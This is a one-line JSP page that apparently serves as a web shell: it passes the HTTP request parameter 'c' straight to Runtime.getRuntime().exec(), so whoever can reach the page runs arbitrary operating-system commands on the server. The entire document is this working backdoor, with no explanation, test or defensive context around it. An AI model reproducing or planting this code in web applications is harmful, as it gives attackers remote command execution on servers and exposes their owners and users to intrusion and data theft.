<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>
